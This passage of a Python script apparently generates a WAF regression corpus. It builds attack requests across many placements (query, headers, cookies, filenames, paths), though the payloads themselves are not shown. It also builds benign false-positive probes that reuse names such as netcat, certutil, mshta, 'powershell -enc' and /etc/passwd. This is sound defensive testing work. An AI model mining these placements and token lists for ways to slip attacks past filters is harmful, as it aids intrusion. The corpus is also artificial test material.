    if place == "param-name":
        return _get(f"/api/users?page=1&{urllib.parse.quote(value, safe='')}=1"), value
    if place == "xml":
        return _xml("/api/users", "user", "name", value), value
    if place == "multipart-field":
        return _multipart("/admin/users/search", [("csrf_token", "t0k3n", None), (name, value, None)]), value
    if place == "multipart-filename":
        return _multipart("/admin/users/search", [("csrf_token", "t0k3n", None),
                                                  ("avatar", "GIF89a qx7z8k", value)]), value
    if place == "path":
        prefix = "/admin" if k % 2 == 0 else "/api"
        return _get(prefix + urllib.parse.quote(value, safe="/.~-_")), value
    raise ValueError(place)


def rs_request(place: str, name: str, value: str, s: Sub, k: int) -> tuple[dict[str, Any], str]:
    """The payload the way a WAF regression suite sends it: not our routes, arbitrary names."""
    path = RS_PATHS[k % len(RS_PATHS)]
    if place == "rs-query":
        return _get(f"{path}?{_kv(name, value, s.raw)}"), value
    if place == "rs-form":
        return _raw_form(path, _kv(name, value, s.raw)), value
    if place == "rs-json":
        return _json(path, {name: value}), value
    if place == "rs-xml":
        return _xml(path, "root", name if name.isidentifier() else "x", value), value
    if place == "rs-raw-body":
        return _raw_form(path, value), value
    if place == "rs-cookie":
        v = header_safe(value)
        return _with_header(_get(path), "Cookie", f"{name}={urllib.parse.quote(v, safe=COOKIE_SAFE)}"), v
    if place.startswith("rs-header:"):
        v = header_safe(value)
        return _with_header(_get(path), place.split(":", 1)[1], v), v
    if place == "rs-multipart-filename":
        return _multipart(path if path not in ("/", "/get") else "/post",
                          [(name, "qx7z8k", None), ("file", "qx7z8k", value)]), value
    if place == "rs-path":
        base = "" if k % 2 == 0 else "/app"
        return _get(base + urllib.parse.quote(value, safe="/.~-_")), value
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for si, s in enumerate(SUBS):
        for i, p in enumerate(s.payloads):
            k = si + i
            if s.pair:
                name, value = p.split("=", 1)
                rs_name = name
            else:
                name, value = OUR_NAMES[k % len(OUR_NAMES)], p
                rs_name = RS_NAMES[k % len(RS_NAMES)]
            builds = ((s.ours[k % len(s.ours)], ours_request, name),
                      (s.rs[(k + i // len(s.rs)) % len(s.rs)], rs_request, rs_name))
            for place, build, pname in builds:
                req, sent = build(place, pname, value, s, k)
                n += 1
                yield {**req, "id": f"{NAME}-{s.category}-{n:04d}", "category": s.category, "sub": s.sub,
                       "placement": place, "payload": sent if not s.pair else f"{pname}={sent}"}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently
# ---------------------------------------------------------------------------------------------------------------
CHAT = [
    "can someone cat the nginx error log on staging and paste the last 20 lines here?",
    "ls shows the upload dir is empty, so the cron job never ran",
    "my id in the HR system is 4471 if you need it for the form",
    "ping me when you are back from lunch",
    "ping is 12 ms from the office, 80 ms from home",
    "use curl with -v to see the TLS handshake, it helps a lot",
    "wget is not installed on the alpine image, use curl instead",
    "powershell 7 is the default shell on the new build agents",
    "on Windows run ipconfig to find your IP before calling IT",
    "whoami on the jump host prints your LDAP name, not the local one",
    "the for loop in the migration script skips the last batch",
    "if the deploy fails, roll back and tell the channel",
    "alias gs='git status' saves me a lot of typing",
    "history in my terminal is 10k lines, I grep it all the time",
    "history of the project is in the CHANGELOG, since 2019",
    "the sqlite file for local dev lives in var/dev.db",
    "sqlite has a .schema command that prints the tables",
    "the SMTP relay rejected our mail, RCPT TO was an unknown address",
    "IMAP sync on my phone stopped after the password change",
    "POP3 is disabled on the mail server, use IMAP",
    "the /etc/hosts entry for the dev box is 10.0.0.12 dev.local",
    "passwd expired on my Linux laptop, how do I change it?",
    "the shadow IT inventory is due Friday",
    "we keep secrets out of .env files in the repo, use the vault",
    "git config --global user.email is how you set your address",
    "the .htaccess rules from the old Apache site are not needed on nginx",
    "web.config is only for the IIS box that runs the legacy portal",
    "include the config file from the parent folder, ../config/app.yml",
    "relative paths like ../assets/logo.png break when you move the page",
    "the Windows path is C:\\Users\\ann\\Documents\\report.docx",
    "backup goes to D:\\Backups\\2024\\weekly",
    "the file URL file:///Users/ann/Desktop/notes.txt only works on your machine",
    "see http://intranet.example.com/wiki?page=onboarding for the steps",
    "the RFC says a URL may end with a question mark, like https://example.com/?",
    "is https://www.example.org/docs? the right link, or without the question mark?",
    "the API lives at http://10.0.0.5:8080/ in the lab",
    "proxy is at 192.168.1.10:3128 for the test VMs",
    "who owns the cmd line tool for exports?",
    "the command dir /s lists subfolders on Windows, ls -R on Linux",
    "type nul > file.txt makes an empty file on Windows",
    "net user is how the admins check accounts on the domain controller",
    "systeminfo says the build server has 64 GB of RAM",
    "tasklist shows the java process eating the CPU",
    "the bash script uses $(date +%F) for the folder name",
    "use ${HOME} in the docs instead of hardcoding /home/ann",
    "backticks in markdown make `inline code`, three of them make a block",
    "the IFS trick in the loop is explained in the shell style guide",
    "python -m venv .venv and then pip install -r requirements.txt",
    "perl is still used by the old reporting cron job",
    "ruby on rails app is frozen, no new features",
    "php 8.3 upgrade is scheduled for next sprint",
    "node 20 and npm 10 are required for the frontend",
    "nc is netcat, handy to test if a port is open",
    "telnet to port 25 is how we used to test SMTP by hand",
    "shellshock was a 2014 bash bug, our images are way past that",
    "the () => {} arrow function syntax confuses new joiners",
    "Start-Process and Get-ChildItem are the PowerShell cmdlets I use most",
    "Invoke-WebRequest is like curl on Windows",
    "Get-Content -Tail 50 app.log works like tail",
    "for /f loops in batch files are painful, I rewrote it in PowerShell",
    "if exist the lock file, the job exits early",
    "the sleep 5 in the healthcheck is too long, use 2",
    "sleep well everyone, long day tomorrow",
    "echo the variable before you use it, to debug",
    "the find command in the runbook needs -maxdepth 2",
    "grep -r TODO src/ shows 42 open todos",
    "head and tail are your friends for big log files",
    "more or less the same result as last week",
    "uname -a on the runner says kernel 6.1",
    "env vars for the test stack are in the README",
    "printenv is useful when the container misbehaves",
    "hostname of the new VM is build-07",
    "pwd shows you where you are, in case you get lost",
    "ps aux | grep java shows two processes, one is a zombie",
    "the alias for the team mailbox is team@example.com",
    "fc is the old name of the football club in the office league",
    "the .system file in the design folder is the font config, do not delete",
    "upload the .user.ini? no, just the report PDF please",
    "php.ini on the dev box has display_errors on",
    "global.asa is from the classic ASP days, remove it from the archive",
    "the authorized_keys file is managed by ansible now",
    ".profile and .bash_profile are both read on login shells",
    "httpd.conf was migrated to nginx.conf last quarter",
    "web.xml in the Java app declares the servlet filters",
    "/proc/self shows the process info, neat for debugging",
    "the access.log rotates every night at midnight",
    "the WEB-INF folder never gets served directly",
    "the .git folder was excluded from the docker context",
    "a .DS_Store slipped into the release zip again, ugh",
    "svn entries are from the old repo, we moved to git in 2016",
    "the .npmrc points at our private registry",
    "the id_rsa key is in your ssh agent, never paste it",
    "the boot.ini joke in the retro made me laugh",
    "win.ini sounds like something from Windows 3.1",
    "the cgi-bin folder on the old server still has the guestbook script",
    "the index.php of the marketing site is WordPress",
    "test.cgi is the hello world for the perl workshop",
    "the | character is a pipe, the & runs things in the background",
    "a;b;c is how we separate tags in the CSV import",
    "use && between commands so it stops on the first error",
    "the ; at the end of the SQL line is optional in the console",
    "cost is 3 && 4 euros, depending on the plan",
    "Tom & Jerry is my favourite cartoon",
    "R&D budget is approved; Q&A session at 3pm",
    "the price list says: basic | pro | enterprise",
    "$100 for the team lunch, $(tax included)",
    "the regex ^ls$ matches only the word ls",
    "who am i? just the new person on the platform team",
    "the cat photo channel is #random, not here",
    "dir of engineering is Maria, she joins the call",
    "type your name in the form and press save",
    "net revenue was up 5% this quarter",
    "the user interface copy says: Start process now",
    "the ruby anniversary is 40 years, congrats to the founders",
    "copy the logs to the bucket, then delete the local copies",
    "the rm -rf in the cleanup script only touches /tmp/build",
    "move the meeting, the mail server maintenance is at 10",
    "the helo message in the SMTP log shows our relay name",
    "DATA section of the report is on page 4",
    "QUIT button is in the top right corner",
    "LIST of attendees is pinned in the channel",
    "RETR is short for retrospective in my notes",
    "VRFY step in the checklist means verify the backup",
    "the USER and PASS fields in the FTP client are on the second tab",
    "SELECT the inbox folder and then the filter tab",
    "the FETCH API replaces XMLHttpRequest in the new frontend",
    "the attach database button is for the analytics team only",
    "load_extension is disabled in our sqlite build, as it should be",
    "the .load command in the sqlite docs needs a shared library",
    "reg query output goes in the ticket, please",
    "wmic is deprecated on Windows 11",
    "certutil can hash a file: certutil -hashfile x.iso SHA256",
    "bitsadmin was the old way, now we use Start-BitsTransfer",
    "mshta is blocked by the endpoint agent, that is expected",
    "regsvr32 is needed to register the old COM component",
    "sc query shows the service is stopped",
    "schtasks runs the cleanup every night",
    "attrib +r makes the file read only",
    "the caret ^ escapes characters in cmd.exe, like a backslash in bash",
    "%USERPROFILE% and %APPDATA% differ on roaming profiles",
    "the %comspec% variable points at cmd.exe",
    "IEX is an alias, better spell Invoke-Expression out in scripts",
    "the powershell -enc flag takes base64 of UTF-16",
]

PROSE = [
    "Please cat-sit for me this weekend, the keys are under the mat",
    "Customer asks why ping times to the portal are high from Singapore",
    "Employee ID 4471 requested a new laptop",
    "User reports: the history page shows last year's orders",
    "Ticket: alias address sales@example.com bounces mail",
    "Request to whitelist http://partner.example.com/feed? for the import",
    "Note: the SMTP server logs RCPT TO rejections for unknown users",
    "Refund for order #1234 & #1235, customer called twice",
    "The user typed C:\\Program Files\\App\\config.ini into the path field",
    "Profile note: works on the IMAP migration project",
    "Move to folder ../archive after review",
    "The batch job for /var/data/imports runs nightly",
    "Customer uploaded web.config by mistake, asked us to delete it",
    "Bug: search for 'cat food' returns nothing",
    "Escalation: the sleep study invoice is missing",
    "Who am I speaking with? asked the caller",
    "Please type the name exactly as on the passport",
    "The etc. in the contract covers shipping, taxes, etc.",
    "Shell Oil invoice, net 30 days",
    "Bash party on Friday at 6, bring snacks",
    "Ruby Smith and Perl Jones joined the sales team",
    "Python workshop moved to room 4B",
    "Order: 2x curl brush, 1x hair dryer",
    "Wget Ltd. called about the renewal",
    "The ps on the letter says: see you in June",
    "Who owns the dd (due diligence) report?",
    "Start process: onboarding checklist for new hires",
    "If exist, please send the signed copy",
    "For each item in the list, check the price",
    "Net user growth was 4% in May",
    "Tasklist for the sprint is in Jira",
    "System info request from the auditors",
    "Dir. of Finance approved the budget",
    "More or less 40 people attended",
    "Head of ops, tail of the quarter, busy times",
    "Find the attached receipt for the hotel",
    "The echo in the meeting room is terrible",
    "Environment (env) team standup at 9",
    "Hostname change request for the printer",
    "Print env sheet for the audit",
    "Password reset via SMS for user 88",
    "A2 form; B3 form; C4 form",
    "Jack & Jill | Ltd",
    "$5 off with code SAVE5",
    "Quote: `the best is yet to come`",
    "Temp dir is full; clean up",
    "Meeting notes: history, alias, fc and more",
    "The SELECT committee meets on Tuesdays",
    "LIST price vs. sale price",
    "USER guide chapter 3",
    "HELO world (typo in the greeting card)",
    "EXPN: expense note for travel",
    "Customer in Windows team asks about cmd shortcuts",
    "PowerShell training session booked",
    "Invoke the escalation path if no answer in 2 hours",
    "Get-Well card for Sam, please sign",
    "The sqlite mobile app export is attached",
    "attach database dump to the ticket",
    "load extension cord to room 2",
    "the read me first document",
    "System dot shell? no idea what the user means",
    "The /etc folder question came from the Linux course",
    "The proc folder tour in the kernel class was fun",
    "Our boot camp starts on Monday",
    "Windows 11 win-back offer for customers",
    "Web config page crashed in Firefox",
    "The git HEAD was detached during the demo",
    "SVN to Git migration guide",
    "DS Store is the name of the shop in Dublin",
    "AWS credentials rotate every 90 days per policy",
    "SSH keys must be 4096 bits",
    "Bash history retention is 30 days on the jump host",
    "HG (Mercurial) repos are read only now",
    "npm rc file docs for the frontend team",
    "the rm in the title means room",
    "wildcard search: use * or ? in the name field",
    "Search tips: file?.txt matches file1.txt and file2.txt",
    "The c?t pattern matches cat and cut",
    "Backslash \\ in Windows paths, slash / on Linux",
    "Use quotes around names with spaces, like \"Ann Lee\"",
    "The caret ^ key on German keyboards is top left",
    "Percent signs like 100% are fine in the notes",
    "The FOR loop in the Excel macro is slow",
    "IF statement in the spreadsheet returns N/A",
    "Curly braces {a,b} in the template are placeholders",
    "Dollar amounts like $(1,200) are negative in accounting",
    "Arithmetic: 7*191 = 1337",
]

URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_aliases",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://git-scm.com/docs/git-config",
    "https://docs.npmjs.com/cli/v10/configuring-npm/npmrc",
    "https://www.php.net/manual/en/configuration.file.per-user.php",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://example.com/search?q=cat+food",
    "https://shop.example.com/products?id=42&ref=newsletter",
    "https://www.example.org/docs/",
    "https://files.example.com/reports/2024/q1.pdf",
    "https://cdn.example.net/img/logo.png?v=7",
    "https://status.example.com/",
    "https://calendar.example.com/event?id=99&view=week",
    "https://github.com/acme/tools/blob/main/scripts/deploy.sh",
    "https://github.com/acme/site/blob/main/.htaccess",
    "https://github.com/acme/api/tree/main/config",
    "http://example.com/",
    "https://blog.example.com/2024/05/why-we-moved-off-sqlite",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://docs.example.com/guide/relative-paths",
    "https://maps.example.com/?q=10+Downing+Street",
]

SEARCHES = [
    "cat", "ls", "id card", "ping pong table", "curl hair", "powershell course", "command line basics",
    "etc passwd meaning", "windows cmd tips", "for loop", "if statement", "alias email", "bash history",
    "sqlite", "smtp settings", "imap gmail", "pop3 outlook", "shell company", "shellshock", "who am i",
    "net user", "type c", "dir", "sleep 8 hours", "the ps of the letter", "echo dot", "find my phone",
    "head office", "tail lights", "more info", "less is more", "env", "hostname", "grep", "awk",
    "sed", "tee shirt", "ruby red", "perl necklace", "python snake", "java coffee", "node js",
    "php jobs", "wget", "nc state", "telnet", "dd form 214", "du jour", "df meaning", "od green",
    "tac bell", "w hotel", "sh airport", ".htaccess", "web.config", ".env file", ".git", "boot.ini",
    "win.ini", "/etc/hosts", "C:\\Windows", "../", "...", "a;b", "a|b", "a&b", "$100", "`code`",
    "(a)", "{braces}", "[brackets]", "http://", "https://example.com?", "ftp server", "file://",
    "10.0.0.1", "192.168.0.1 login", "127.0.0.1", "localhost:8080", "reg query", "wmic", "certutil",
    "mshta", "regsvr32", "bitsadmin", "schtasks", "sc query", "attrib", "findstr", "ipconfig",
    "systeminfo", "tasklist", "whoami", "uname", "printenv", "history", "fc barcelona", "!!",
]

NAMES = [
    ("Cat Nguyen", "12 Shell Road, Perth"), ("Ping Li", "8 Curl Street, Leeds"), ("Ruby Stone", "1 Bash Lane"),
    ("Perl Jamison", "77 Python Ave"), ("Sid Dir", "3 Type Close, Hull"), ("Ann Alias", "5 History Way"),
    ("Fc Tan", "2 More Street"), ("Tac Ward", "9 Tail End"), ("Id Olsen", "44 Net Lane"),
    ("Dd Ross", "6 Echo Park"), ("Del Mar", "10 Find Road"), ("Les Head", "88 Less Street"),
    ("Sed Patel", "14 Grep Court"), ("Aw K", "15 Cut Lane"), ("Od Smith", "16 Tee Road"),
    ("Siobhán O'Neil", "Apt 4 & 5, Main St"), ("Zoë Ünal", "Straße 1 | Berlin"), ("José Núñez", "C/ Mayor; 3"),
    ("Mary-Jane Who", "1 Am Way"), ("Sam Sleep", "11 Ping Avenue"), ("Wes Getz", "22 Curl Crescent"),
    ("Ken Smtp", "33 Mail Road"), ("Ima Pop", "44 Three Street"), ("Pat Powers", "55 Shell Court"),
    ("Cmd Rao", "66 Windows Way"), ("For Lee", "77 If Street"), ("Nc Park", "88 Telnet Lane"),
    ("Ps Kim", "99 Aux Road"), ("Env Ito", "100 Host Street"), ("Win Ini", "101 Boot Street"),
]

UAS = [
    UA,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.32.3",
    "PowerShell/7.4 (Windows NT 10.0; Win64; x64)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "okhttp/4.12.0",
]
REFERERS = [
    "https://www.google.com/", "https://www.bing.com/search?q=cat+command", "https://example.com/docs/shell",
    "https://learn.microsoft.com/en-us/powershell/", "https://man7.org/linux/man-pages/man1/ls.1.html",
    "https://duckduckgo.com/?q=etc+passwd+format", "https://app.example.com/admin/users?page=2",
    "https://news.example.org/2024/shellshock-ten-years-later", "https://sqlite.org/cli.html",
    "https://www.example.org/help?topic=imap&lang=en",
]
UPLOAD_NAMES = [
    "report.pdf", "avatar.png", "team photo.jpg", "Q1 numbers.xlsx", "notes.txt", "cat.gif", "shell-logo.svg",
    "bash-cheatsheet.pdf", "powershell-intro.pptx", "history-essay.docx", "config-example.yaml", "passwd-policy.pdf",
    "htaccess-guide.md", "web-config-notes.txt", "résumé.pdf", "invoice #42.pdf", "a&b.csv", "data (1).json",
    "scan_2024-05-01.tiff", "readme.md",
]


def search_request(text: str, k: int) -> dict[str, Any]:
    if k % 3 == 2:
        return _get(_query("/search", [("q", text)]))
    return _get(_query("/api/users", [("q", text), ("page", "1")]))


def comment_request(text: str) -> dict[str, Any]:
    return _json("/api/users/42", {"notes": text})


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    searches = SEARCHES + CHAT[:60] + PROSE[:60]
    n = yield from numbered((search_request(t, k) for k, t in enumerate(searches)), f"{NAME}-search", n, "query")
    n = yield from numbered((comment_request(t) for t in PROSE), f"{NAME}-comment", n, "json")
    n = yield from numbered((_json("/api/users", {"name": nm, "address": addr, "email": "user@example.org"})
                             for nm, addr in NAMES), f"{NAME}-name", n, "json")
    headers = []
    for k, ua in enumerate(UAS):
        for j in range(3):
            ref = REFERERS[(k + j) % len(REFERERS)]
            path = ["/api/users?page=1", "/search?q=cat", "/"][j]
            headers.append({**_get(path), "headers": {"User-Agent": ua, "Accept": "text/html", "Referer": ref,
                                                      "Cookie": f"theme=dark; lang=en; last_search=cat%20{k}"}})
    n = yield from numbered(headers, f"{NAME}-headers", n, "header")
    uploads = (_multipart("/admin/users/search", [("csrf_token", "t0k3n", None), ("title", f"upload {k}", None),
                                                  ("avatar", "GIF89a hello", fname)])
               for k, fname in enumerate(UPLOAD_NAMES))
    yield from numbered(uploads, f"{NAME}-upload", n, "multipart")


if __name__ == "__main__":
    print_records(attacks(), benign())
